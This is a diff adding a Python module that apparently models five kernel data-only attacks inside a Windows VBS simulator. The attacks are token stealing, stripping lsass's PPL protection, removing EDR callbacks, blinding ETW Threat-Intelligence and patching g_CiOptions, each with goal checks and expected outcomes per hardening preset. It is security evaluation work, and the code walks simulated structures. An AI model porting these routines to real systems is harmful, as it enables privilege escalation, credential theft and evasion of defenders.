@@ -1,0 +1,438 @@
+"""D1-D5: data-only attacks on NT's security state in VTL0 RAM (issue 10 part 3).
+
+A K0 attacker (a kernel read/write primitive: a vulnerable signed driver, or code reuse over
+signed code, which HVCI does not stop — vbs-internals §5.1, §6 A7) changes bytes NT later decides
+from.  No code is written, so HVCI has nothing to refuse; only what KDP or HVPT protects is out of
+reach, and Windows registers none of these structures with KDP except ci.dll's CiPolicy section.
+Each goal is read from the machine afterwards (host side: RAM, the trace, the debugger's view of
+what ran), never from what the attacker reports.
+
+Addresses (PsActiveProcessHead, PspCreateProcessNotifyRoutine, EtwThreatIntProvRegHandle,
+g_CiOptions, the EDR's image base) come from a host-side symbol lookup, as public symbols and
+PsLoadedModuleList give them to a real attacker; the payloads then walk the structures in RAM
+with plain loads and stores through NT's own page tables.
+
+Expected outcomes, from the public record:
+- D1-D4 succeed on every preset, hardened included: VBS and HVCI protect code and VTL1, not NT's
+  data; KDP protects only what a driver registers (MS-KDP blog, 2020-07-08: "KDP ... protects
+  ... a section of a driver's image" on request).  Token stealing and PPL stripping through a
+  vulnerable driver: PPLKiller (RedCursor 2020), mimikatz ``!processprotect`` (mimidrv),
+  "Bring Your Own Vulnerable Driver" reporting (e.g. ESET, "Exploiting vulnerable drivers",
+  2022); callback removal and ETW-TI blinding: EDRSandblast (Wavestone, 2021), Lazarus FudModule
+  (AhnLab / Avast 2022), "Terminator"/AuKill EDR killers (2023).  legacy-2019 has the same
+  structures unprotected.
+- D5 (g_CiOptions := 0): blocked wherever KDP protects CiPolicy — on 20H1+ whenever VBS runs
+  (helz.dev 2025 "ci.dll unsigned driver loading"; Fortinet, "The Swan Song for Driver
+  Signature Enforcement Tampering", 2022) — and succeeds without VBS (the classic DSE disable,
+  vbs-internals §6 A3).  See D5's ``expected_why`` for the model's presets without KDP.
+"""
+
+from __future__ import annotations
+
+import functools
+from typing import Any
+
+from vbsim.attacks.catalogue.a03_a14_memory_code_dma import host_lookup, reads_as
+from vbsim.attacks.catalogue.a15_a20_boot_and_trustlets import record_run, runs
+from vbsim.attacks.context import AttackContext, payload_routine
+from vbsim.attacks.model import Capability, Outcome, Scenario
+from vbsim.guest.address_space import DIRECT_MAP
+from vbsim.hw.vp import VirtualProcessor
+from vbsim.hw.x86 import PAGE_SIZE, PTE_ADDR_MASK
+from vbsim.image import ImageKind, build_image
+from vbsim.nt import drivers, lsass, notify
+from vbsim.nt.kernel import NtKernel
+from vbsim.nt.layouts import (
+    EPROCESS,
+    ETW_BUFFER,
+    ETW_GUID_ENTRY,
+    ETW_REG_ENTRY,
+    EX_CALLBACK_ROUTINE_BLOCK,
+    EX_CALLBACK_SIZE,
+    LIST_ENTRY,
+    PSP_MAX_CREATE_PROCESS_NOTIFY,
+    HostReader,
+    Protection,
+    fast_ref_object,
+)
+from vbsim.nt.layouts import (
+    KLDR_DATA_TABLE_ENTRY as KLDR,
+)
+from vbsim.nt.process import Process
+from vbsim.nt.syscalls import syscall
+from vbsim.ntstatus import NtStatus
+
+S, B = Outcome.SUCCEEDED, Outcome.BLOCKED
+#: Data NT decides from and nobody registers with KDP: the write lands everywhere.
+EVERYWHERE = {"vbs-off": S, "vbs": S, "vbs-hvci": S, "hardened": S, "legacy-2019": S}
+NAME_AT, DATA_AT = 0, 512
+
+
+def _nt(ctx: AttackContext) -> NtKernel:
+    nt = ctx.booted.nt
+    assert nt is not None
+    return nt
+
+
+def _host(ctx: AttackContext) -> HostReader:
+    machine = ctx.booted.machine
+    assert machine is not None
+    return HostReader(machine.ram, DIRECT_MAP)
+
+
+def _status(value: Any) -> str:
+    return NtStatus.name_of(value) if isinstance(value, int) else str(value)
+
+
+# -- K0 primitives: walks in RAM through NT's page tables -------------------------------------
+def find_eprocess(vp: VirtualProcessor, head: int, pid: int) -> int:
+    """Walk ActiveProcessLinks from PsActiveProcessHead for ``pid`` (as every token-stealing
+    payload does); 0 if absent."""
+    link = vp.read_u64(head + LIST_ENTRY.Flink.offset)
+    for _ in range(4096):
+        if link == head:
+            return 0
+        eprocess = link - EPROCESS.ActiveProcessLinks.offset
+        if vp.read_u64(eprocess + EPROCESS.UniqueProcessId.offset) == pid:
+            return eprocess
+        link = vp.read_u64(link)
+    return 0
+
+
+# -- D1: token swap -----------------------------------------------------------------------------
+def _steal_token(vp: VirtualProcessor, head: int, pid: int) -> int:
+    """K0: copy System's (PID 4) EX_FAST_REF token pointer into our EPROCESS."""
+    system = find_eprocess(vp, head, 4)
+    mine = find_eprocess(vp, head, pid)
+    if not system or not mine:
+        return 0
+    token: int = vp.read_u64(system + EPROCESS.Token.offset)
+    vp.write_u64(mine + EPROCESS.Token.offset, token)
+    return token
+
+
+def _load_sample(vp: VirtualProcessor, buffer: int) -> int:
+    """CPL3: NtLoadDriver needs SeLoadDriverPrivilege (a standard user lacks it)."""
+    raw = drivers.SAMPLE_DRIVER.encode()
+    vp.write(buffer + NAME_AT, raw)
+    return syscall(vp, "NtLoadDriver", buffer + NAME_AT, len(raw))
+
+
+def d1_steps(ctx: AttackContext) -> None:
+    nt = _nt(ctx)
+    process = ctx.process(admin=False, name="d1.exe")
+    buffer = ctx.user_buffer(process)
+    ctx.notes["process"] = process
+    ctx.notes["before"] = _status(ctx.user(_load_sample, buffer, process=process))
+    ctx.notes["token"] = ctx.kernel(_steal_token, nt.process_head, process.pid)
+    ctx.notes["after"] = _status(ctx.user(_load_sample, buffer, process=process))
+
+
+def d1_goal(ctx: AttackContext) -> bool:
+    """The standard user's process now holds System's token in RAM, and NT let it load a driver
+    (SeLoadDriverPrivilege, decided from that token) after refusing it before."""
+    process = ctx.notes.get("process")
+    if not isinstance(process, Process) or ctx.system is None or ctx.system.nt is None:
+        return False
+    system_token = ctx.view(ctx.system.nt.processes[4]).token
+    return (
+        ctx.view(process).token == system_token
+        and ctx.notes.get("before") == "STATUS_PRIVILEGE_NOT_HELD"
+        and drivers.SAMPLE_DRIVER in ctx.system.nt.drivers
+    )
+
+
+D1 = Scenario(
+    id="D1",
+    title="Token swap: copy the System process's token pointer into the attacker's EPROCESS",
+    source="Windows Internals 7th ed. part 1 ch. 7 (tokens); token-stealing payloads "
+    "(EPROCESS.Token EX_FAST_REF copy, Vergilius offsets); BYOVD literature",
+    capability=Capability.K0,
+    goal="a standard user's process passes SeLoadDriverPrivilege, decided from its token in RAM",
+    expected=EVERYWHERE,
+    expected_why="EPROCESS.Token is ordinary kernel pool data: no VBS feature protects it, and "
+    "HVCI has no code to refuse (public token-stealing exploits work with HVCI on; MS-KDP: KDP "
+    "protects only registered sections)",
+    steps=d1_steps,
+    goal_met=d1_goal,
+)
+
+
+# -- D2: PPL strip ------------------------------------------------------------------------------
+def _strip_ppl(vp: VirtualProcessor, head: int, pid: int) -> int:
+    """K0: zero the target's PS_PROTECTION byte (PPLKiller / mimidrv ``/remove``)."""
+    target = find_eprocess(vp, head, pid)
+    if target:
+        vp.write(target + EPROCESS.Protection.offset, b"\0")
+    return target
+
+
+def _read_other(vp: VirtualProcessor, pid: int, address: int, length: int, buffer: int) -> int:
+    return syscall(vp, "NtReadVirtualMemory", pid, address, buffer + DATA_AT, length)
+
+
+def _user_bytes(ctx: AttackContext, process: Process, va: int, length: int) -> bytes:
+    machine = ctx.booted.machine
+    assert machine is not None
+    leaf = host_lookup(ctx, process.tables.root, va)
+    if leaf is None:
+        return b""
+    return machine.ram.read((leaf & PTE_ADDR_MASK) | (va & (PAGE_SIZE - 1)), length)
+
+
+def d2_steps(ctx: AttackContext) -> None:
+    nt = _nt(ctx)
+    pid, va, length = lsass.credential_region(nt)
+    lsass_process = nt.processes[pid]
+    # The defender enabled RunAsPPL: lsass runs as PsProtectedSignerLsa-Light (0x41).
+    _host(ctx).set_field(lsass_process.eprocess, EPROCESS.Protection, Protection.PPL)
+    admin = ctx.process(admin=True, name="d2.exe")
+    buffer = ctx.user_buffer(admin)
+    args = (pid, va, min(length, 256), buffer)
+    ctx.notes["before"] = _status(ctx.user(_read_other, *args, process=admin))
+    ctx.kernel(_strip_ppl, nt.process_head, pid)
+    ctx.notes["after"] = _status(ctx.user(_read_other, *args, process=admin))
+    ctx.notes["copy"] = (admin, buffer + DATA_AT, lsass_process, va, min(length, 256))
+
+
+def d2_goal(ctx: AttackContext) -> bool:
+    """The administrator's buffer holds lsass's bytes (and the read was refused while PPL)."""
+    copy = ctx.notes.get("copy")
+    if copy is None or ctx.notes.get("before") != "STATUS_ACCESS_DENIED":
+        return False
+    admin, at, target, va, length = copy
+    theirs = _user_bytes(ctx, target, va, length)
+    return bool(theirs.strip(b"\0")) and _user_bytes(ctx, admin, at, length) == theirs
+
+
+D2 = Scenario(
+    id="D2",
+    title="PPL strip: clear lsass's PS_PROTECTION byte, then read its memory as administrator",
+    source="Windows Internals 7th ed. part 1 ch. 3 (protected processes); PPLKiller "
+    "(RedCursor 2020); mimikatz mimidrv !processprotect; BYOVD literature",
+    capability=Capability.K0,
+    goal="an administrator process opens and reads lsass's memory despite RunAsPPL",
+    expected=EVERYWHERE,
+    expected_why="the Protection byte lives in the EPROCESS in ordinary pool: VBS/HVCI do not "
+    "protect it (Microsoft documents RunAsPPL as defeated by a kernel attacker; Credential Guard, "
+    "not PPL, is what keeps secrets from one: A27 asks what the memory holds)",
+    steps=d2_steps,
+    goal_met=d2_goal,
+)
+
+
+# -- D3: EDR callback removal ----------------------------------------------------------------
+def _remove_callbacks(vp: VirtualProcessor, array: int, start: int, end: int) -> int:
+    """K0: zero every PspCreateProcessNotifyRoutine slot whose routine lies in [start, end)."""
+    removed = 0
+    for index in range(PSP_MAX_CREATE_PROCESS_NOTIFY):
+        slot = array + index * EX_CALLBACK_SIZE
+        value: int = vp.read_u64(slot)
+        if not value:
+            continue
+        routine: int = vp.read_u64(
+            fast_ref_object(value) + EX_CALLBACK_ROUTINE_BLOCK.Function.offset
+        )
+        if start <= routine < end:
+            vp.write_u64(slot, 0)
+            removed += 1
+    return removed
+
+
+def edr_log(ctx: AttackContext) -> list[int]:
+    """The PIDs the EDR recorded, from its .data in RAM (host side)."""
+    nt = _nt(ctx)
+    machine = ctx.booted.machine
+    driver = nt.drivers.get(notify.EDR_DRIVER)
+    if machine is None or not isinstance(driver, drivers.LoadedDriver):
+        return []
+    _, data_rva = notify.edr_rvas()
+    leaf = host_lookup(ctx, nt.space.pt.root, driver.base + data_rva)
+    if leaf is None:
+        return []
+    page = machine.ram.read(leaf & PTE_ADDR_MASK, PAGE_SIZE)
+    count = min(int.from_bytes(page[:8], "little"), notify.EDR_LOG_MAX)
+    return [int.from_bytes(page[8 + 8 * i : 16 + 8 * i], "little") for i in range(count)]
+
+
+def _find_module(vp: VirtualProcessor, head: int, name: str) -> tuple[int, int]:
+    """K0: walk PsLoadedModuleList for ``name`` (what NtQuerySystemInformation's
+    SystemModuleInformation reports to EDRSandblast): (DllBase, SizeOfImage)."""
+    wanted = name.encode("utf-16-le")
+    link: int = vp.read_u64(head)
+    for _ in range(1024):
+        if link == head:
+            break
+        length = int.from_bytes(vp.read(link + KLDR.BaseDllNameLength.offset, 2), "little")
+        buffer: int = vp.read_u64(link + KLDR.BaseDllNameBuffer.offset)
+        if vp.read(buffer, length) == wanted:
+            base: int = vp.read_u64(link + KLDR.DllBase.offset)
+            return base, vp.read_u32(link + KLDR.SizeOfImage.offset)
+        link = vp.read_u64(link)
+    return 0, 0
+
+
+def _blind_edr(vp: VirtualProcessor, modules: int, array: int, name: str) -> int:
+    base, size = _find_module(vp, modules, name)
+    return _remove_callbacks(vp, array, base, base + size) if base else 0
+
+
+def d3_steps(ctx: AttackContext) -> None:
+    nt = _nt(ctx)
+    ctx.notes["seen_before"] = len(edr_log(ctx))
+    array = nt.variable(notify.NOTIFY_ARRAY).va
+    modules = drivers.module_list_head(nt)
+    ctx.notes["removed"] = ctx.kernel(_blind_edr, modules, array, notify.EDR_DRIVER)
+    ctx.notes["victim"] = ctx.process(admin=False, name="payload.exe").pid
+
+
+def d3_goal(ctx: AttackContext) -> bool:
+    """A process was created after the removal and the EDR's log does not have it (while the
+    EDR had logged the boot's processes: it was working)."""
+    victim = ctx.notes.get("victim")
+    seen = ctx.notes.get("seen_before", 0)
+    return isinstance(victim, int) and seen > 0 and victim not in edr_log(ctx)
+
+
+D3 = Scenario(
+    id="D3",
+    title="EDR blinding: remove the EDR's process-creation callback from the notify array",
+    source="EDRSandblast (Wavestone 2021); Ciholas et al. 'Blinding EDR' ; Terminator / AuKill "
+    "EDR killers (2023); WRK ps/psnotify.c (PspCreateProcessNotifyRoutine[64])",
+    capability=Capability.K0,
+    goal="the next process creation is not reported to the EDR",
+    expected=EVERYWHERE,
+    expected_why="the callback array is in ntoskrnl's .data, which no VBS feature protects "
+    "(PatchGuard checks it only lazily, EDRSandblast documents restoring it before a check); "
+    "KDP protects only sections a driver registers",
+    steps=d3_steps,
+    goal_met=d3_goal,
+)
+
+
+# -- D4: ETW Threat-Intelligence blinding ----------------------------------------------------
+def _disable_provider(vp: VirtualProcessor, handle_va: int) -> int:
+    """K0: EtwThreatIntProvRegHandle → GuidEntry → ProviderEnableInfo.IsEnabled := 0."""
+    reg_entry: int = vp.read_u64(handle_va)
+    guid_entry: int = vp.read_u64(reg_entry + ETW_REG_ENTRY.GuidEntry.offset)
+    vp.write_u32(guid_entry + ETW_GUID_ENTRY.ProviderEnableInfo.offset, 0)
+    return guid_entry
+
+
+def etw_events(ctx: AttackContext) -> int:
+    """How many Threat-Intelligence events the logger's buffer holds (host side)."""
+    nt = _nt(ctx)
+    machine = ctx.booted.machine
+    assert machine is not None
+    pointer = nt.variable(notify.ETW_TI_BUFFER)
+    buffer = machine.ram.read_u64(pointer.gpa)
+    return _host(ctx).field(buffer, ETW_BUFFER.Count)
+
+
+def d4_steps(ctx: AttackContext) -> None:
+    nt = _nt(ctx)
+    target = ctx.process(admin=False, name="victim.exe")
+    region = ctx.user_buffer(target)
+    admin = ctx.process(admin=True, name="d4.exe")
+    buffer = ctx.user_buffer(admin)
+    ctx.notes["control"] = _status(
+        ctx.user(_read_other, target.pid, region, 8, buffer, process=admin)
+    )
+    ctx.notes["events_before"] = etw_events(ctx)
+    ctx.kernel(_disable_provider, nt.variable(notify.ETW_TI_HANDLE).va)
+    ctx.notes["read"] = _status(ctx.user(_read_other, target.pid, region, 8, buffer, process=admin))
+    ctx.notes["events_after"] = etw_events(ctx)
+
+
+def d4_goal(ctx: AttackContext) -> bool:
+    """The cross-process read after the write succeeded and left no event (the one before it
+    did: the provider was logging)."""
+    before = ctx.notes.get("events_before", 0)
+    return (
+        ctx.notes.get("control") == "STATUS_SUCCESS"
+        and before > 0
+        and ctx.notes.get("read") == "STATUS_SUCCESS"
+        and ctx.notes.get("events_after") == before
+    )
+
+
+D4 = Scenario(
+    id="D4",
+    title="ETW blinding: clear the Threat-Intelligence provider's IsEnabled flag",
+    source="EDRSandblast ETW-TI disabling (Wavestone 2021); Lazarus FudModule (AhnLab/Avast "
+    "2022); Vergilius _ETW_REG_ENTRY/_ETW_GUID_ENTRY",
+    capability=Capability.K0,
+    goal="the next cross-process memory read is not logged",
+    expected=EVERYWHERE,
+    expected_why="the provider's enable information is in kernel pool; VBS, HVCI and KDP do not "
+    "protect it (FudModule disabled ETW-TI on HVCI-enabled machines, Avast 2022)",
+    steps=d4_steps,
+    goal_met=d4_goal,
+)
+
+
+# -- D5: g_CiOptions patch ----------------------------------------------------------------------
+UNSIGNED = "d5_rootkit.sys"
+
+
+def _d5_entry(vp: VirtualProcessor, driver_object: int) -> int:
+    record_run(vp, "d5")
+    return int(NtStatus.SUCCESS)
+
+
+@functools.lru_cache(maxsize=1)
+def unsigned_image() -> bytes:
+    return build_image(
+        ImageKind.DRIVER, UNSIGNED, "DriverEntry", {"DriverEntry": payload_routine(_d5_entry)}
+    )
+
+
+def _patch_ci(vp: VirtualProcessor, ci_options: int) -> int:
+    """K0: g_CiOptions := 0 (DSE off)."""
+    vp.write_u64(ci_options, 0)
+    return 0
+
+
+def _load_unsigned(vp: VirtualProcessor, buffer: int) -> int:
+    raw = UNSIGNED.encode()
+    vp.write(buffer + NAME_AT, raw)
+    return syscall(vp, "NtLoadDriver", buffer + NAME_AT, len(raw))
+
+
+def d5_steps(ctx: AttackContext) -> None:
+    nt = _nt(ctx)
+    nt.ext[drivers.STORE][UNSIGNED] = unsigned_image()  # the administrator copies the file
+    ctx.notes["ci_options"] = drivers.ci_options_va(nt)
+    ctx.kernel(_patch_ci, drivers.ci_options_va(nt))
+    admin = ctx.process(admin=True, name="d5.exe")
+    buffer = ctx.user_buffer(admin)
+    ctx.notes["load"] = _status(ctx.user(_load_unsigned, buffer, process=admin))
+
+
+def d5_goal(ctx: AttackContext) -> bool:
+    va = ctx.notes.get("ci_options")
+    if va is None or ctx.system is None or not ctx.system.booted:
+        return False
+    return reads_as(ctx, int(va)) == bytes(8) and (0, 0) in runs(ctx, "d5")
+
+
+D5 = Scenario(
+    id="D5",
+    title="g_CiOptions patch: turn off code integrity with a kernel write, load an unsigned driver",
+    source="Fortinet, 'The Swan Song for Driver Signature Enforcement Tampering' (2022); "
+    "helz.dev 'ci.dll unsigned driver loading' (2025); vbs-internals §5.2 (KDP), §6 A3",
+    capability=Capability.K0,
+    goal="g_CiOptions reads 0 and an unsigned driver's DriverEntry runs at VTL0 CPL0",
+    expected={"vbs-off": S, "vbs": S, "vbs-hvci": B, "hardened": B, "legacy-2019": S},
+    expected_why="CI makes its CiPolicy section KDP read-only: on 20H1+ with VBS the write is an "
+    "EPT violation (the public record: g_CiOptions tampering fails under VBS, which is why "
+    "2022-24 bypasses moved to SeCiCallbacks and other unprotected CI globals). Without VBS "
+    "(vbs-off) and before 20H1 (legacy-2019, no KDP) it is the classic DSE disable and works. "
+    "The model's 'vbs' preset runs VBS with KDP switched off, a configuration the record is "
+    "silent on (on a real 20H1+ machine KDP always runs with VBS): there CiPolicy stays writable "
+    "and the attack works; that cell is the model's, not a record match.",
+    steps=d5_steps,
+    goal_met=d5_goal,
+)
+
+SCENARIOS = [D1, D2, D3, D4, D5]
